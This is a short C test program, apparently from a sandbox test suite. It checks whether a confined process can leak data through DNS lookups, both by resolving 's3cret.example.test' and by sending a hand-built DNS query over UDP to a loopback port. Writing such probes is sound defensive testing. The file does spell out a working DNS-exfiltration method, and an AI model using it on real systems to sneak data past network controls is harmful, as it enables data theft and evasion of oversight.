/* SPDX-License-Identifier: MIT */
/*
 * Names are often looked up where nothing else gets out, and data leaves in them: "secret.example.com" is asked for,
 * and the server of example.com reads it. The query goes to the resolver on 127.0.0.1; "resolver" asks the one that
 * the C library would, without sending anything itself.
 */
#include "attack.h"

#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <sys/socket.h>

/* A question for the address of s3cret.example.test. */
static const unsigned char query[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
                                     "\x06s3cret\x07"
                                     "example\x04test\x00\x00\x01\x00\x01";

int main(int argc, char **argv)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    struct addrinfo *found;
    int fd, r;

    if (argc == 2 && strcmp(argv[1], "resolver") == 0) {
        r = getaddrinfo("s3cret.example.test", NULL, NULL, &found);
        if (r == 0)
            breach("the name was looked up");
        held("getaddrinfo: %s", gai_strerror(r));
    }
    address.sin_port = htons((uint16_t)atoi(scene("SN_UDP_PORT")));
    fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0)
        held_by_errno("socket");
    /* the second one hears what became of the first: where nobody listens it is refused */
    if (connect(fd, (struct sockaddr *)&address, sizeof(address)) < 0 || send(fd, query, sizeof(query) - 1, 0) < 0)
        held_by_errno("sending");
    usleep(50000);
    if (send(fd, query, sizeof(query) - 1, 0) < 0)
        held_by_errno("sending to a port of the sandbox's own");
    breach("the query is on its way");
}
